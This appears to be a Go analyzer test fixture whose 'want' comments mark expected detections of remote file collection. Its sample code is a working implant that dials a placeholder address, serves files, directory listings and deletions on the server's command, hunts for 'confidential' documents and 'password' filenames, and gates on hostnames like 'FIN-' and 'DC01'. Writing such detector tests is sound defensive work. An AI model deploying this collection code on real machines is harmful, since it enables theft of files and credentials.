package a // want package:"hits"

import (
	"bufio"
	"io/fs"
	"log"
	"net"
	"os"
	"path/filepath"
	"strings"
)

type Grabber struct {
	conn net.Conn
}

// serve reads file names from the connection and sends the files back.
func (g *Grabber) serve() {
	r := bufio.NewReader(g.conn)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		verb, arg, _ := strings.Cut(strings.TrimSpace(line), " ")
		switch verb {
		case "get":
			data, err := os.ReadFile(arg) // want "remote-collection/server-chosen-path"
			if err == nil {
				g.conn.Write(data)
			}
		case "ls":
			g.list(arg)
		case "del":
			os.Remove(arg) // ok: nothing is read and sent back
		}
	}
}

// list enumerates a directory the server named; what it yields is sent through a helper.
func (g *Grabber) list(dir string) {
	entries, _ := os.ReadDir(dir) // want "remote-collection/server-chosen-path"
	for _, e := range entries {
		g.send(e.Name())
	}
}

func (g *Grabber) send(s string) {
	g.conn.Write([]byte(s + "\n"))
}

// exists opens a path the server named but sends nothing read from it.
func (g *Grabber) exists(path string) {
	f, err := os.Open(path) // ok: nothing read from the file is sent
	if err != nil {
		log.Printf("missing %s", path)
		return
	}
	f.Close()
}

// grepFile sends a document when it looks confidential.
func (g *Grabber) grepFile(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	text := strings.ToLower(string(data))
	if strings.Contains(text, "confidential") { // want "remote-collection/keyword-search"
		g.conn.Write(data)
	}
}

// hits is filled by a named WalkDir callback and sent later.
var hits []string

func match(path string, d fs.DirEntry, err error) error {
	if err == nil && strings.Contains(strings.ToLower(d.Name()), "password") { // want "remote-collection/keyword-search"
		hits = append(hits, path)
	}
	return nil
}

func (g *Grabber) sweep(root string) {
	filepath.WalkDir(root, match)
	for _, h := range hits {
		g.conn.Write([]byte(h))
	}
}

// audit looks for passwords in a local file and only logs.
func audit() {
	cfg, _ := os.ReadFile("/etc/agent.conf")
	if strings.Contains(string(cfg), "password=") { // ok: nothing is uploaded
		log.Println("plaintext password")
	}
}

// isTarget activates only on chosen hosts.
func isTarget() bool {
	h, _ := os.Hostname()
	return strings.HasPrefix(strings.ToUpper(h), "FIN-") // want "remote-collection/host-gated"
}

type Agent struct{ host string }

func (a *Agent) init() { a.host, _ = os.Hostname() }

func (a *Agent) stage() {
	if a.host == "DC01" { // want "remote-collection/host-gated"
		log.Println("domain controller")
	}
}

// configured compares with a configured value, not a constant.
func configured(allowed string) bool {
	h, _ := os.Hostname()
	return strings.EqualFold(h, allowed) // ok: not a constant
}

// Fetcher is how a request reaches the code that serves it.
type Fetcher interface {
	Fetch(path string) []byte
}

type diskFetcher struct{}

func (diskFetcher) Fetch(path string) []byte { // want Fetch:"summary"
	data, _ := os.ReadFile(path) // want "remote-collection/server-chosen-path"
	return data
}

// dispatch asks the fetcher for a path from the network, through the interface, and
// sends back what it returns from a goroutine fed by a channel.
func (g *Grabber) dispatch(f Fetcher) {
	line, _ := bufio.NewReader(g.conn).ReadString('\n')
	out := make(chan []byte, 1)
	go func() {
		for b := range out {
			g.conn.Write(b)
		}
	}()
	out <- f.Fetch(strings.TrimSpace(line))
}

// walkClosure walks a folder the server named with a closure; the paths go back through
// a method value.
func (g *Grabber) walkClosure() {
	line, _ := bufio.NewReader(g.conn).ReadString('\n')
	send := g.send
	filepath.Walk(strings.TrimSpace(line), func(p string, info os.FileInfo, err error) error { // want "remote-collection/server-chosen-path"
		send(p)
		return nil
	})
}

// localWalk walks a fixed folder: nothing the server chose.
func (g *Grabber) localWalk() {
	filepath.Walk("/var/log", func(p string, info os.FileInfo, err error) error { // ok: a fixed root
		g.send(p)
		return nil
	})
}

func main() {
	conn, _ := net.Dial("tcp", "198.51.100.77:8080")
	g := &Grabber{conn: conn}
	go g.serve()
	g.exists(os.Args[1])
	g.grepFile(os.Args[1])
	g.sweep("/home")
	audit()
	isTarget()
	a := &Agent{}
	a.init()
	a.stage()
	configured(os.Getenv("HOST"))
	g.dispatch(diskFetcher{})
	g.walkClosure()
	g.localWalk()
}
